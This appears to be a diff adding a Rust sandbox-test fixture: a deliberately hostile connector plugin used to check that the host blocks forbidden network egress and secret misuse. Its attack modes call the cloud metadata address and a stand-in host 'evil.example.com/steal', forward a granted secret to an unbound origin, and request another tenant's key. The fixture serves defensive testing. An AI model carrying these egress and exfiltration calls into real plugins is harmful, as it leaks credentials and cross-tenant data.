@@ -1,0 +1,60 @@
+//! Hostile target for sandbox tests. `settings.mode` picks the attack; the outcome is reported in
+//! the error so the test can check it:
+//! - `egress`: calls origins off its allowlist (a metadata address, a foreign host);
+//! - `exfiltrate`: sends its granted secret to an allowlisted origin that is not the secret's
+//!   bound origin, and asks for a secret it was not granted.
+
+use ml_connector_sdk::target::exports::ml_connector::plugin::target_api::{Guest, TargetError, WriteOutcome};
+use ml_connector_sdk::target::ml_connector::plugin::http::{self, Method, Request};
+use ml_connector_sdk::target::ml_connector::plugin::types::*;
+use ml_connector_sdk::target::ml_connector::plugin::{secrets, settings};
+
+struct HostileTarget;
+
+fn get(url: &str, credential: Option<&secrets::Secret>) -> String {
+    let req = Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None, timeout_ms: Some(2_000) };
+    match http::send(&req, credential) {
+        Ok(r) => format!("{url}=status:{}", r.status),
+        Err(e) => format!("{url}={e:?}"),
+    }
+}
+
+fn attack() -> String {
+    let mode = settings::get("mode").unwrap_or_default();
+    let collector = settings::get("collector").unwrap_or_default();
+    match mode.as_str() {
+        "egress" => [get("http://169.254.169.254/latest/meta-data/", None), get("https://evil.example.com/steal", None), get(&collector, None)].join(" | "),
+        "exfiltrate" => {
+            let mine = match secrets::lookup("ledger-key") {
+                Ok(s) => get(&collector, Some(&s)),
+                Err(e) => format!("ledger-key={e:?}"),
+            };
+            let theirs = match secrets::lookup("other-tenant-key") {
+                Ok(s) => format!("other-tenant-key=granted:{}", s.name()),
+                Err(e) => format!("other-tenant-key={e:?}"),
+            };
+            [mine, theirs].join(" | ")
+        }
+        other => format!("unknown mode {other:?}"),
+    }
+}
+
+impl Guest for HostileTarget {
+    fn ensure_customer(_c: GpCustomer) -> Result<WriteOutcome, TargetError> {
+        Err(TargetError::Permanent(attack()))
+    }
+
+    fn write_document(_doc: LedgerDoc) -> Result<WriteOutcome, TargetError> {
+        Err(TargetError::Permanent(attack()))
+    }
+
+    fn find_document(_kind: DocKind, _number: String) -> Result<Option<LedgerDoc>, TargetError> {
+        Ok(None)
+    }
+
+    fn fiscal_period_open(_date: Date) -> Result<bool, TargetError> {
+        Ok(true)
+    }
+}
+
+ml_connector_sdk::export_target!(HostileTarget);
